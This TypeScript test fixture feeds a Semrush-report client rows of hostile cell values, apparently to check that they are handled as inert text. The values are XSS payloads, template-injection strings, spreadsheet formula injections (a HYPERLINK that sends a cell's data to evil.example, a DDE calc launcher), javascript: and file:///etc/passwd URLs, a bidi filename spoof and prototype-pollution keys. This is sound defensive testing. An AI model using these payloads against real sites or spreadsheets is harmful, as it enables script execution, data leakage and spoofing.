import type { RowSource } from '@/tests/server/row-source.ts';
import { reportOf } from '@/utils/semrush/catalogue.ts';
import type { CellKind } from '@/utils/semrush/response/cell.ts';

const evil = 'https://evil.example';

/** Texts that would act where they are taken for something else than text: markup, scripts, formulas, marks of direction. */
export const hostileTexts = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  `<iframe src="${evil}/"></iframe>`,
  `<meta http-equiv=refresh content=0,url=${evil}/><base href=${evil}/>`,
  `"><svg onload=alert(1)><link rel=prefetch href=${evil}/>`,
  `<style>* { background: url(${evil}/) }</style>`,
  '{{constructor.constructor("alert(1)")()}}${alert(1)}',
  'javascript:alert(1)',
  `=HYPERLINK("${evil}/?"&A1,"look")`,
  `+cmd|' /C calc'!A0`,
  '-2+3+cmd',
  '@SUM(1+1)*cmd',
  '\uFF1D1+1',
  'safe\u202Egpj.exe',
  'a\u200Bb\u2066c\u2069',
  'bell\u0007escape\u001B[31m',
  '__proto__',
  'constructor',
  'צבא علم مثال',
  '&lt,b&gt, &#x3c,script&#x3e,',
] as const;

/** One cell may hold so much (docs/guarantees.md, "Bad input"). */
const longText = 'x'.repeat(1_000_000);

const urls = [
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  `${evil}/<script>alert(1)</script>?q="onmouseover=alert(1)`,
  'https://user:secret@evil.example/',
  ' java\tscript:alert(1)',
  'vbscript:msgbox(1)',
  'https://xn--pple-43d.com/',
  'file:///etc/passwd',
];

const hosts = ['evil.example', 'xn--pple-43d.com', 'moz.com', '__proto__', '<b>evil.example</b>'];

function cellOf(kind: CellKind, column: string, position: number, target: string): string {
  const text =
    hostileTexts[position] ??
    (column === 'source_title' || column === 'anchor' || column === 'category_name' ? longText : 'the last');
  switch (kind) {
    case 'text':
      return text;
    case 'category':
      return `/${text}`;
    case 'url':
      return urls[(position + column.length) % urls.length]!;
    case 'host':
      return hosts[position % hosts.length]!;
    case 'target':
      return target;
    case 'target_type':
      return 'root_domain';
    case 'country':
      return ['us', 'United States', '<b>us</b>'][position % 3]!;
    case 'zone':
      return ['com', 'xn--p1ai', '<i>com</i>'][position % 3]!;
    case 'ip':
      return `192.0.2.${position}`;
    case 'flag':
      return String(position % 2 === 0);
    case 'time':
      return String(1_500_000_000 + position);
    case 'code':
      return '200';
    case 'confidence':
      return '0.5';
    default:
      return String(90 - position);
  }
}

/** Answers every report with what nobody should have to show. */
export const hostileRows: RowSource = async ({ report, targets, columns, start, end }) => {
  const { columns: kinds } = reportOf(report);
  const asked = columns.length > 0 ? columns : Object.keys(kinds);
  const header = asked.flatMap((column) =>
    kinds[column] === 'count_per_target' ? targets.map(({ value }) => value) : [column],
  );
  const count =
    reportOf(report).wholeLines === 1 ? 1 : reportOf(report).rowPerTarget ? targets.length : hostileTexts.length + 1;
  const rows = Array.from({ length: Math.max(0, Math.min(end, count) - start) }, (_, place) => {
    const position = start + place;
    const target = targets[position % targets.length]!.value;
    return asked.flatMap((column) =>
      kinds[column] === 'count_per_target'
        ? targets.map((_target, index) => String(position + index))
        : [cellOf(kinds[column]!, column, position, target)],
    );
  });
  return [header, ...rows].map((cells) => cells.join(';')).join('\n');
};
